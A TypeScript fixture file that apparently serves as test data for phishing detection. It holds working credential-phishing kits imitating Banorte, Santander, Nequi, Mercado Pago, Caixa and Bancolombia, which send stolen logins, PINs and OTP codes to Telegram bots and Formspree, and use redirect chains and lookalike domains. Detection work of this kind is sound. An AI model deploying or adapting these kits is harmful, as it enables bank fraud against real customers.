import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, logo, favicon, miniJquery, tgSender, geoPrefix } from '../parts/yy-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const banorteTok = '7724918830:AAGx-Hq3Zp9mLkR2vT_8uWcYbN1sJd0fE4o';
const nequiTok = '6839022174:AAFq1Lw0nT4sVx9hJzEoPbCk7mRdQ3yU2iA';

export const entries: Entry[] = [
{
  id: 'yy-banorte-movil-telegram',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://banorte-movil.validacion-segura.site/bm/login.html',
  body: doc({
    lang: 'es-MX',
    title: 'Banorte Móvil - Acceso',
    head: `${favicon('#eb0029', 'B')}<script src="js/jquery-3.6.0.min.js"></script>`,
    css: `body{font-family:Roboto,Arial;margin:0;background:linear-gradient(#eb0029 0 190px,#f2f2f2 190px)}
.c{max-width:380px;margin:0 auto;padding:30px 20px}.card{background:#fff;border-radius:14px;padding:26px 22px;margin-top:24px;box-shadow:0 6px 20px rgba(0,0,0,.15)}
.hd{text-align:center}.hd svg text{fill:#fff}h2{font-size:18px;color:#5b6670;margin:0 0 14px;font-weight:500}
input{width:100%;box-sizing:border-box;height:46px;border:1px solid #cfd4d9;border-radius:8px;margin:8px 0;padding:0 12px;font-size:16px}
.b{width:100%;height:48px;border-radius:24px;border:0;background:#eb0029;color:#fff;font-weight:700;font-size:16px;margin-top:14px}
small{display:block;color:#888;margin-top:10px;text-align:center}#f2,#f3{display:none}`,
    body: `<div class="c"><div class="hd">${logo('banorte', 36)}</div>
<div class="card">
<form id="f1"><h2>Ingresa a Banorte Móvil</h2>
<input name="u" placeholder="Usuario" required><input name="p" type="password" placeholder="Contraseña" required>
<button class="b">Ingresar</button><small>Por tu seguridad tu sesión será validada con tu Token Celular.</small></form>
<form id="f2"><h2>Token Celular</h2><p style="font-size:14px;color:#555">Abre Banorte Móvil &gt; Token Celular y escribe la clave dinámica de 8 dígitos.</p>
<input name="t" inputmode="numeric" maxlength="8" placeholder="Clave dinámica" required><button class="b">Validar</button></form>
<form id="f3"><h2>Activa tu nuevo dispositivo</h2><input name="cel" placeholder="Celular a 10 dígitos" required><input name="sms" placeholder="Código recibido por SMS" required><button class="b">Activar</button></form>
</div></div>
<script>
${geoPrefix('ipinfo')}
${tgSender('envia', banorteTok, '-1002219874456', 'jquery')}
var datos={};
$('#f1').on('submit',function(e){e.preventDefault();datos.u=this.u.value;datos.p=this.p.value;envia('🏦 BANORTE LOGIN\\n'+ipinfo+'Usuario: '+datos.u+'\\nContraseña: '+datos.p).always(function(){$('#f1').hide();$('#f2').show();});});
$('#f2').on('submit',function(e){e.preventDefault();envia('🔑 TOKEN '+datos.u+': '+this.t.value).always(function(){$('#f2').hide();$('#f3').show();});});
$('#f3').on('submit',function(e){e.preventDefault();envia('📱 SMS '+datos.u+': '+this.cel.value+' / '+this.sms.value).always(function(){location.replace('https://www.banorte.com/');});});
</script>`,
  }),
  routes: {
    'banorte-movil.validacion-segura.site/bm/js/jquery-3.6.0.min.js': jsRoute(miniJquery),
  },
},
{
  id: 'yy-santander-mx-sms-chain',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://sntdr-mx.link/c/Rq83f',
  routes: {
    'sntdr-mx.link/c/Rq83f': redirectRoute(302, 'https://trk.envios-notif.xyz/r?u=Rq83f&d=santander'),
    'trk.envios-notif.xyz/r': redirectRoute(302, 'https://santander-mx-cargonoreconocido.com/Supernet/Rq83f/index.php'),
    'santander-mx-cargonoreconocido.com/Supernet/Rq83f/index.php': htmlRoute(doc({
      lang: 'es-MX',
      title: 'SuperNet Santander',
      head: favicon('#ec0000', 'S'),
      css: `body{margin:0;font-family:"Santander Text",Arial,sans-serif;background:#fff}
header{border-bottom:4px solid #ec0000;padding:14px 28px}main{display:flex;gap:40px;max-width:980px;margin:30px auto;padding:0 20px}
.l{flex:1}.l h1{color:#ec0000;font-size:26px;font-weight:400}.alerta{background:#fff4e5;border-left:4px solid #f5a623;padding:12px 16px;font-size:14px}
.f{width:340px;border:1px solid #ddd;border-radius:8px;padding:24px}.f label{font-size:13px;color:#444}.f input{width:100%;box-sizing:border-box;margin:6px 0 14px;padding:10px;border:1px solid #999;border-radius:4px}
.f button{background:#ec0000;color:#fff;border:0;border-radius:24px;padding:12px;width:100%;font-size:15px}`,
      body: `<header>${logo('santander', 30)}</header>
<main><div class="l"><h1>Aclaración de cargos</h1>
<div class="alerta">Se registró una compra en <b>LIVERPOOL PERISUR</b> por <b>$12,389.00</b> con tu tarjeta con terminación ****. Si no la reconoces, ingresa a SuperNet para bloquearla.</div>
<p style="font-size:14px;color:#555">Tienes 24 horas para realizar la aclaración; después el cargo se considerará reconocido.</p></div>
<form class="f" method="post" action="procesa.php">
<input type="hidden" name="ref" value="Rq83f">
<label>Código de cliente</label><input name="codigo" inputmode="numeric" maxlength="8" required>
<label>NIP de SuperNet</label><input name="nip" type="password" maxlength="8" required>
<label>Número de celular registrado</label><input name="cel" inputmode="tel" maxlength="10" required>
<button>Iniciar sesión</button></form></main>`,
    })),
    'santander-mx-cargonoreconocido.com/Supernet/Rq83f/procesa.php': htmlRoute(doc({
      lang: 'es-MX',
      title: 'SuperNet Santander',
      body: `<div style="font-family:Arial;max-width:420px;margin:60px auto;text-align:center">${logo('santander', 30)}<p>Ingresa la clave de 6 dígitos enviada por SMS para concluir la aclaración.</p><form method="post" action="sms.php"><input name="sms" maxlength="6" style="font-size:22px;text-align:center;width:180px"><br><br><button style="background:#ec0000;color:#fff;border:0;padding:10px 30px;border-radius:20px">Confirmar</button></form></div>`,
    })),
  },
},
{
  id: 'yy-nequi-propulsor-prestamo',
  label: 'phishing',
  kind: 'wallet-app-credential-kit',
  url: 'https://nequi-propulsor-credito.com/solicitud/',
  body: doc({
    lang: 'es-CO',
    title: 'Nequi | Préstamo Propulsor preaprobado',
    head: favicon('#da0081', 'N'),
    css: `body{margin:0;background:#200020;font-family:Manrope,Arial;color:#fff;min-height:100vh}
.w{max-width:400px;margin:0 auto;padding:28px 22px}.w svg text{fill:#fff}.hero{background:#da0081;border-radius:18px;padding:20px;margin:22px 0}
.hero b{font-size:34px;display:block}.f{background:#fff;color:#200020;border-radius:18px;padding:22px}
input{width:100%;box-sizing:border-box;border:1px solid #ddd;border-radius:10px;padding:14px;font-size:17px;margin:8px 0}
.b{width:100%;background:#da0081;color:#fff;border:0;border-radius:10px;padding:15px;font-weight:800;font-size:16px;margin-top:10px}
.pin{display:flex;gap:10px;justify-content:center}.pin input{width:54px;text-align:center;font-size:24px}.hide{display:none}`,
    body: `<div class="w">${logo('nequi', 34)}
<div class="hero">Tienes un Préstamo Propulsor preaprobado por<b>$4.500.000</b><span>Desembolso inmediato a tu Nequi · cuota desde $189.000</span></div>
<div class="f" id="a"><p><b>Ingresa para solicitarlo</b></p><input id="cel" inputmode="tel" maxlength="10" placeholder="Número de celular"><p style="font-size:13px">Clave de 4 dígitos</p>
<div class="pin"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"><input maxlength="1" inputmode="numeric" type="password"></div>
<button class="b" id="go">Solicitar préstamo</button></div>
<div class="f hide" id="b"><p><b>Confirma el desembolso</b></p><p style="font-size:14px">Ingresa la clave dinámica que aparece en tu app Nequi (sección Clave dinámica).</p><input id="din" maxlength="6" inputmode="numeric" placeholder="Clave dinámica"><button class="b" id="go2">Confirmar</button><p id="t" style="font-size:12px;color:#888">La clave cambia cada 60 segundos</p></div>
<div class="f hide" id="c"><p><b>¡Listo!</b> Tu préstamo será desembolsado en las próximas 24 horas.</p></div>
</div>
<script>
${tgSender('tg', nequiTok, '5519020347', 'fetch')}
document.querySelectorAll('.pin input').forEach(function(i,k,a){i.addEventListener('input',function(){if(i.value&&a[k+1])a[k+1].focus();});});
document.getElementById('go').onclick=async function(){var c=document.getElementById('cel').value;var p=Array.from(document.querySelectorAll('.pin input')).map(function(x){return x.value}).join('');if(c.length!==10||p.length!==4)return;await tg('💜 NEQUI\\nCel: '+c+'\\nClave: '+p);a.classList.add('hide');b.classList.remove('hide');};
document.getElementById('go2').onclick=async function(){await tg('💜 NEQUI DINAMICA '+document.getElementById('cel').value+': '+document.getElementById('din').value);b.classList.add('hide');c.classList.remove('hide');};
</script>`,
  }),
},
{
  id: 'yy-mercadopago-ar-formspree',
  label: 'phishing',
  kind: 'fintech-credential-kit',
  url: 'https://mercadopago-com-ar.cuenta-verificacion.top/jms/mla/lgz/login',
  body: doc({
    lang: 'es-AR',
    title: 'Mercado Pago',
    head: favicon('#00b1ea', 'M'),
    css: `body{margin:0;background:#ededed;font-family:"Proxima Nova",Arial}.nav{background:#fff159;height:56px;display:flex;align-items:center;padding:0 24px}
.box{background:#fff;max-width:460px;margin:40px auto;border-radius:6px;padding:40px;box-shadow:0 1px 2px rgba(0,0,0,.12)}
h1{font-size:24px;font-weight:600;margin:0 0 24px}label{font-size:14px}input{width:100%;box-sizing:border-box;height:48px;border:1px solid #bfbfbf;border-radius:6px;padding:0 14px;font-size:16px;margin:6px 0 18px}
.b{width:100%;height:48px;background:#009ee3;color:#fff;border:0;border-radius:6px;font-size:16px;font-weight:600}.s2,.s3{display:none}`,
    body: `<div class="nav">${logo('mercadopago', 30)}</div>
<div class="box">
<form id="mp" action="https://formspree.io/f/xdkogzbr" method="POST">
<input type="hidden" name="_subject" value="MP AR nuevo">
<div class="s1"><h1>Ingresá tu e-mail, teléfono o usuario para iniciar sesión</h1><label>E-mail, teléfono o usuario</label><input name="email" required><button type="button" class="b" onclick="paso(2)">Continuar</button></div>
<div class="s2"><h1>Ahora, tu contraseña de Mercado Pago</h1><label>Contraseña</label><input name="password" type="password"><button type="button" class="b" onclick="paso(3)">Iniciar sesión</button></div>
<div class="s3"><h1>Revisá tu celular</h1><p>Te enviamos un código por SMS para verificar que sos vos. No lo compartas con nadie.</p><label>Código</label><input name="codigo_sms" maxlength="6" inputmode="numeric"><input type="hidden" name="_next" value="https://www.mercadopago.com.ar/"><button class="b">Verificar</button></div>
</form></div>
<script>function paso(n){document.querySelector('.s'+(n-1)).style.display='none';document.querySelector('.s'+n).style.display='block';}</script>`,
  }),
},
{
  id: 'yy-caixa-tem-saque-fgts',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://caixatem-saquefgts.online/consulta/',
  body: doc({
    lang: 'pt-BR',
    title: 'CAIXA Tem | Saque FGTS Liberado',
    head: favicon('#005ca9', 'C'),
    css: `body{margin:0;font-family:"Futura",Arial;background:#eef3f8}.hd{background:#005ca9;padding:16px;text-align:center}.hd svg text{fill:#fff}
.bx{max-width:430px;margin:18px auto;background:#fff;border-radius:10px;padding:22px}.v{font-size:30px;color:#005ca9;font-weight:700}
input{width:100%;box-sizing:border-box;border:1px solid #b0c4d8;border-radius:6px;padding:12px;margin:6px 0 12px;font-size:16px}
button{width:100%;background:#f39200;border:0;color:#fff;padding:14px;border-radius:6px;font-size:16px;font-weight:700}.q{display:none}
.cnt{font-size:13px;color:#c00}`,
    body: `<div class="hd">${logo('caixa', 34)}</div>
<div class="bx" id="a"><h3>Consulte seu saque FGTS extraordinário</h3><p>Valor disponível para trabalhadores com carteira assinada entre 2010 e 2024.</p><label>Informe seu CPF</label><input id="cpf" maxlength="14" inputmode="numeric"><button onclick="consulta()">Consultar</button></div>
<div class="bx q" id="b"><p>Olá! Você tem um saldo de</p><p class="v">R$ 3.118,40</p><p class="cnt">Disponível por tempo limitado: <span id="tm">14:59</span></p><p>Para liberar o saque no seu CAIXA Tem, confirme o acesso:</p>
<label>Senha do CAIXA Tem</label><input id="s" type="password" maxlength="6" inputmode="numeric"><label>Número do NIS</label><input id="nis" maxlength="14"><label>Telefone cadastrado</label><input id="tel" inputmode="tel"><button onclick="libera()">Liberar saque</button></div>
<div class="bx q" id="c"><h3>Saque em processamento</h3><p>Você receberá um SMS com o código de confirmação. Digite abaixo:</p><input id="cod" maxlength="6"><button onclick="fim()">Confirmar</button></div>
<script>
var T=899;setInterval(function(){T--;if(T<0)T=0;var m=Math.floor(T/60),s=T%60;var e=document.getElementById('tm');if(e)e.textContent=m+':'+(s<10?'0':'')+s;},1000);
function go(a,b){document.getElementById(a).style.display='none';document.getElementById(b).style.display='block';}
function snd(d){return fetch('/consulta/salvar.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});}
function consulta(){if(cpf.value.replace(/\\D/g,'').length!==11)return;snd({cpf:cpf.value});go('a','b');}
function libera(){snd({cpf:cpf.value,senha:s.value,nis:nis.value,tel:tel.value});go('b','c');}
function fim(){snd({cpf:cpf.value,sms:cod.value}).then(function(){location='https://www.caixa.gov.br/';});}
</script>`,
  }),
  routes: {
    'caixatem-saquefgts.online/consulta/salvar.php': jsonRoute({ r: 1 }),
  },
},
{
  id: 'yy-santander-br-userinfo',
  label: 'phishing',
  kind: 'userinfo-bank-kit',
  url: 'https://sntd-cadastro.click/internetbanking/',
  submittedUrl: 'https://www.santander.com.br@sntd-cadastro.click/internetbanking/',
  body: doc({
    lang: 'pt-BR',
    title: 'Santander Internet Banking',
    head: favicon('#ec0000', 'S'),
    css: `body{margin:0;font-family:Arial;background:#f6f6f6}.h{background:#ec0000;padding:14px 26px}.h svg path,.h svg text{fill:#fff}
.m{max-width:400px;margin:40px auto;background:#fff;padding:28px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.1)}
h2{color:#333;font-weight:400}.tabs{display:flex;margin-bottom:18px}.tabs span{flex:1;text-align:center;padding:8px;border-bottom:2px solid #ddd;font-size:14px}.tabs .on{border-color:#ec0000;color:#ec0000}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #999;border-radius:4px;margin:6px 0 14px}button{width:100%;background:#ec0000;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px}`,
    body: `<div class="h">${logo('santander', 30)}</div>
<div class="m"><h2>Acesse sua conta</h2><div class="tabs"><span class="on">Pessoa Física</span><span>Empresas</span></div>
<form method="post" action="/internetbanking/validar.php"><label>CPF</label><input name="cpf" maxlength="14" required>
<label>Senha de 8 dígitos</label><input name="senha" type="password" maxlength="8" required>
<label>Senha do cartão (4 dígitos)</label><input name="scartao" type="password" maxlength="4" required>
<label>Código do Santander ID (app)</label><input name="sid" maxlength="6"><button>Entrar</button></form>
<p style="font-size:12px;color:#777">Atualização cadastral obrigatória conforme Resolução BCB nº 142.</p></div>`,
  }),
},
{
  id: 'yy-bancolombia-punycode',
  label: 'phishing',
  kind: 'lookalike-bank-kit',
  url: 'https://xn--banclombia-personas-twp.com/ingreso',
  body: doc({
    lang: 'es-CO',
    title: 'Bancolombia Personas | Ingreso',
    head: favicon('#2c2a29', 'B'),
    css: `body{margin:0;font-family:Arial;background:#fff}.t{padding:16px 34px;border-bottom:1px solid #e6e6e6}.g{display:grid;grid-template-columns:1fr 1fr;min-height:80vh}
.g .l{background:#fdda24;padding:60px}.g .l h1{font-size:34px}.g .r{padding:60px}.r input{display:block;width:320px;padding:12px;border:1px solid #777;border-radius:6px;margin:8px 0 16px}
.r button{width:346px;padding:13px;border:0;border-radius:24px;background:#2c2a29;color:#fff;font-weight:700}`,
    body: `<div class="t">${logo('bancolombia', 30)}</div>
<div class="g"><div class="l"><h1>Actualiza tus datos y evita el bloqueo de tu tarjeta</h1><p>Según la Circular Externa 029 de la Superfinanciera debes confirmar tu información antes del cierre del mes.</p></div>
<div class="r"><form method="post" action="/ingreso/ok"><label>Tipo y número de documento</label><input name="cc" required><label>Número de tarjeta débito</label><input name="td" required inputmode="numeric"><label>Clave de cajero (4 dígitos)</label><input name="pin" type="password" maxlength="4" required><label>Fecha de vencimiento</label><input name="fv" placeholder="MM/AA"><button>Actualizar datos</button></form></div></div>`,
  }),
},
];
